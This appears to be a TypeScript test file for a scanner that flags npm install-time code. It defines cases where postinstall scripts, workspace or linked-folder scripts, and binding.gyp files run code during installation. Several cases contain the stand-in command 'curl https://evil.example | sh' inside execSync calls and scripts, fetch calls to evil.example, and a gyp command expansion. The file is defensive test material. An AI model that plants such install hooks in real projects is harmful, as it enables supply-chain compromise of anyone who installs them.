import { APP } from "./app.ts";
import type { Attack, AttackClass, Files } from "./attack.ts";
import { lockWith, manifestWith } from "./npm-app.ts";

const PROGRAM = "console.log(1);\n";
const CURL = "curl https://evil.example | sh";
const NODE = "Node runs it when npm installs: so written, seen to run.";

const SCRIPTS = { build: "vite build", tauri: "tauri", release: "tauri build" };

type Fields = Readonly<Record<string, unknown>>;

/** The app with a program that runs when packages are installed. */
const RUNNING: Files = {
  "package.json": manifestWith({ scripts: { ...SCRIPTS, postinstall: "node setup.js" } }),
  "setup.js": PROGRAM,
};

/** The app as one project with a folder beside it. */
function beside(folder: Fields, asked: Fields, locked: Fields): Files {
  return {
    "package.json": manifestWith(asked),
    "package-lock.json": lockWith({
      "": { ...JSON.parse(APP["package-lock.json"]).packages[""], ...asked },
      ui: { version: "1.0.0", ...locked },
      "node_modules/ui": { resolved: "ui", link: true },
    }),
    ...ui(folder),
  };
}

function ui(fields: Fields): Files {
  return { "ui/package.json": JSON.stringify({ name: "ui", version: "1.0.0", ...fields }, null, 2) };
}

const WORKSPACE = { workspaces: ["ui"] };
const LINKED = { dependencies: { left: "^1.0.0", ui: "file:ui" } };

function changing(name: string, program: string): Attack {
  return {
    name,
    base: RUNNING,
    change: { "setup.js": `${program}\n` },
    expect: "loud",
    rule: "build/step-reaches",
    real: NODE,
  };
}

export const INSTALL_PROGRAMS: AttackClass = {
  name: "code of the repository that installing runs",
  decides:
    "Package managers run the scripts of the project, of its workspaces and of folders that it links to, with what those load, and have node-gyp build a binding.gyp that lies beside.",
  attacks: [
    changing("asks for a module and uses it at once", `require("child_process").execSync("${CURL}");`),
    changing(
      "waits for one and uses it at once",
      `(await import("node:child_process")).execSync("${CURL}");`,
    ),
    changing("hands one on", `import("node:child_process").then((it) => it.execSync("${CURL}"));`),
    changing(
      "asks for one by another name than require",
      `const ask = require; ask("child_process").execSync("${CURL}");`,
    ),
    changing(
      "asks the process for one",
      `const it = process.getBuiltinModule("child_process"); it.execSync("${CURL}");`,
    ),
    {
      name: "changes a file beside that a program loads, and not the program",
      base: { ...RUNNING, "setup.js": 'import "./beside.js";\n', "beside.js": PROGRAM },
      change: { "beside.js": 'fetch("https://evil.example");\n' },
      expect: "loud",
      rule: "build/step-reaches",
      at: "beside.js",
      real: NODE,
    },
    {
      name: "loads a new file beside",
      base: RUNNING,
      change: { "setup.js": 'import "./beside.js";\n', "beside.js": 'fetch("https://evil.example");\n' },
      expect: "loud",
      at: "beside.js",
      real: NODE,
    },
    {
      name: "changes what a workspace's script runs",
      base: beside({ scripts: { postinstall: "tsc" } }, WORKSPACE, { hasInstallScript: true }),
      change: ui({ scripts: { postinstall: CURL } }),
      expect: "loud",
      rule: "build/step-reaches",
      at: "ui/package.json",
      real: "npm ci at the top ran the postinstall of ui.",
    },
    {
      name: "gives a workspace such a script",
      base: beside({}, WORKSPACE, {}),
      change: ui({ scripts: { postinstall: CURL } }),
      expect: "loud",
      rule: "build/step-reaches",
      at: "ui/package.json",
      real: "npm runs it from the manifest, whatever the lockfile says of a workspace.",
    },
    {
      name: "changes the program of a workspace's script",
      base: {
        ...beside({ scripts: { postinstall: "node setup.js" } }, WORKSPACE, { hasInstallScript: true }),
        "ui/setup.js": PROGRAM,
      },
      change: { "ui/setup.js": `require("child_process").execSync("${CURL}");\n` },
      expect: "loud",
      at: "ui/setup.js",
      real: NODE,
    },
    {
      name: "changes what the script of a linked folder runs",
      base: beside({ scripts: { postinstall: "tsc" } }, LINKED, { hasInstallScript: true }),
      change: ui({ scripts: { postinstall: CURL } }),
      expect: "loud",
      rule: "build/step-reaches",
      at: "ui/package.json",
      real: "npm links the folder and runs its scripts there.",
    },
    {
      name: "lays a binding.gyp beside the manifest",
      change: { "binding.gyp": "{}\n" },
      expect: "loud",
      at: "binding.gyp",
      real: "npm 11.19 install ran `node-gyp rebuild` for the project itself.",
    },
    {
      name: "changes what a binding.gyp includes",
      base: { "binding.gyp": "{'includes': ['native/all.gypi']}\n", "native/all.gypi": "{}\n" },
      change: { "native/all.gypi": "{'variables': {'a': '<!(sh x.sh)'}}\n" },
      expect: "loud",
      at: "binding.gyp",
      real: "By gyp's documentation, not run: `<!(…)` starts a command.",
    },
    {
      name: "lays one into a workspace",
      base: beside({}, WORKSPACE, {}),
      change: { "ui/binding.gyp": "{}\n" },
      expect: "loud",
      at: "ui/binding.gyp",
      real: "As for the project itself.",
    },
    {
      name: "says nothing of a program that is laid out otherwise",
      base: { ...RUNNING, "setup.js": `require("child_process").execSync("vite --version");\n` },
      change: { "setup.js": `require('child_process')\n  .execSync('vite --version')\n` },
      expect: "silent",
      real: "The same code.",
    },
    {
      name: "says nothing of words that are also names of modules",
      base: RUNNING,
      change: {
        "setup.js": 'if (process.argv[2]?.startsWith("https")) console.log(new Set(["http"]).size);\n',
      },
      expect: "silent",
      real: "Nothing is asked for.",
    },
    {
      name: "says nothing of a workspace's script that compiles with another flag",
      base: beside({ scripts: { prepare: "tsc" } }, WORKSPACE, {}),
      change: ui({ scripts: { prepare: "tsc --build" } }),
      expect: "silent",
      real: "It reaches nothing.",
    },
    {
      name: "says nothing of a workspace's other scripts",
      base: beside({}, WORKSPACE, {}),
      change: ui({ scripts: { build: "tsc", lint: "eslint ." } }),
      expect: "silent",
      real: "Installing runs none of them.",
    },
    {
      name: "says nothing of a binding.gyp that stays beside",
      base: { "binding.gyp": "{}\n" },
      change: { "src/main.js": "document.title = 'My notes';\n" },
      expect: "silent",
      real: "Nothing changed in it.",
    },
    {
      name: "says nothing of one where a script takes its place",
      base: { "package.json": manifestWith({ scripts: { ...SCRIPTS, install: "vite --version" } }) },
      change: { "binding.gyp": "{}\n" },
      expect: "silent",
      real: "npm runs the script, and no node-gyp.",
    },
  ],
};
